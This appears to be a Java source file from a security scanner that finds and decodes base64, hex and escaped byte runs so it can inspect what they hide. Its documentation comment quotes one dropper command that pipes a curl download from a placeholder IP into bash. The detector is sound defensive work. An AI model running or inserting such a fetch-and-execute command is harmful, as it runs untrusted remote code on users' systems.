package dev.carapace.skill.scan;

import java.nio.ByteBuffer;
import java.nio.charset.CharacterCodingException;
import java.nio.charset.CodingErrorAction;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

/**
 * Encoded runs on a line, found by hand (no regex, so a megabyte of base64 costs one pass): base64 of 40 characters or
 * more mixing cases and digits, hex of 64 digits or more, and runs of 8 or more {@code \xHH} escapes. Each is decoded
 * when it decodes to text, so the scanner can look at what it hides (the ClawHavoc dropper was a base64 string that
 * decodes to {@code /bin/bash -c "$(curl -fsSL http://IP/...)"}). {@code data:image/...;base64,} runs are pictures and
 * skipped.
 */
final class Blobs {

    enum Kind { BASE64, HEX, ESCAPES }

    /** One run: where it is, what kind, and its text when it decodes to text (else null). */
    record Blob(int start, int end, Kind kind, String decoded) {
        int length() { return end - start; }
    }

    static final int MIN_BASE64 = 40, MIN_HEX = 64, MIN_ESCAPES = 8;
    /** Longest run decoded; longer ones are judged by their length alone. */
    private static final int MAX_DECODE = 64 * 1024;

    private Blobs() {}

    static List<Blob> find(String line) {
        List<Blob> out = new ArrayList<>();
        int n = line.length();
        int i = 0;
        while (i < n && out.size() < 20) {
            char c = line.charAt(i);
            if (c == '\\' && i + 3 < n && line.charAt(i + 1) == 'x') {
                int j = i;
                while (j + 3 < n && line.charAt(j) == '\\' && line.charAt(j + 1) == 'x' && hex(line.charAt(j + 2)) && hex(line.charAt(j + 3))) j += 4;
                if ((j - i) / 4 >= MIN_ESCAPES) {
                    out.add(new Blob(i, j, Kind.ESCAPES, text(unescape(line.substring(i, j)))));
                    i = j;
                    continue;
                }
            }
            if (!b64(c)) {
                i++;
                continue;
            }
            int j = i;
            boolean upper = false, lower = false, digit = false, allHex = true;
            while (j < n && b64(line.charAt(j))) {
                char d = line.charAt(j);
                upper |= d >= 'A' && d <= 'Z';
                lower |= d >= 'a' && d <= 'z';
                digit |= d >= '0' && d <= '9';
                allHex &= hex(d);
                j++;
            }
            int pad = j;
            while (pad < n && pad - j < 2 && line.charAt(pad) == '=') pad++;
            int len = j - i;
            boolean wordStart = i == 0 || !Character.isLetterOrDigit(line.charAt(i - 1));
            if (wordStart && allHex && len >= MIN_HEX && len % 2 == 0 && !(upper && lower)) {
                out.add(new Blob(i, j, Kind.HEX, len > MAX_DECODE ? null : text(unhex(line.substring(i, j)))));
            } else if (wordStart && len >= MIN_BASE64 && upper && lower && digit && !picture(line, i)) {
                out.add(new Blob(i, pad, Kind.BASE64, len > MAX_DECODE ? null : text(unbase64(line.substring(i, pad)))));
            }
            i = Math.max(pad, i + 1);
        }
        return out;
    }

    private static boolean picture(String line, int i) {
        int from = Math.max(0, i - 48);
        String before = line.substring(from, i).toLowerCase(java.util.Locale.ROOT);
        return before.contains("data:image/") || before.contains("data:font/") || before.contains("data:audio/");
    }

    private static boolean b64(char c) {
        return (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') || c == '+' || c == '/';
    }

    private static boolean hex(char c) {
        return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F');
    }

    private static byte[] unbase64(String s) {
        String body = s.replace("=", "");
        if (body.length() % 4 == 1) body = body.substring(0, body.length() - 1);   // a stray last character decodes to nothing
        try {
            return Base64.getDecoder().decode(pad(body));
        } catch (IllegalArgumentException e) {
            return null;
        }
    }

    private static String pad(String s) {
        int r = s.length() % 4;
        return r == 0 ? s : s + "=".repeat(4 - r);
    }

    private static byte[] unhex(String s) {
        byte[] out = new byte[s.length() / 2];
        for (int k = 0; k < out.length; k++) out[k] = (byte) Integer.parseInt(s.substring(2 * k, 2 * k + 2), 16);
        return out;
    }

    private static byte[] unescape(String s) {
        byte[] out = new byte[s.length() / 4];
        for (int k = 0; k < out.length; k++) out[k] = (byte) Integer.parseInt(s.substring(4 * k + 2, 4 * k + 4), 16);
        return out;
    }

    /** The bytes as text when they are valid UTF-8 and nearly all printable; else null. */
    static String text(byte[] bytes) {
        if (bytes == null || bytes.length == 0) return null;
        String s;
        try {
            s = StandardCharsets.UTF_8.newDecoder().onMalformedInput(CodingErrorAction.REPORT)
                    .onUnmappableCharacter(CodingErrorAction.REPORT).decode(ByteBuffer.wrap(bytes)).toString();
        } catch (CharacterCodingException e) {
            return null;
        }
        long printable = s.chars().filter(ch -> ch >= 0x20 && ch != 0x7f || ch == '\n' || ch == '\r' || ch == '\t').count();
        return printable * 100 >= 95L * s.length() ? s : null;
    }
}
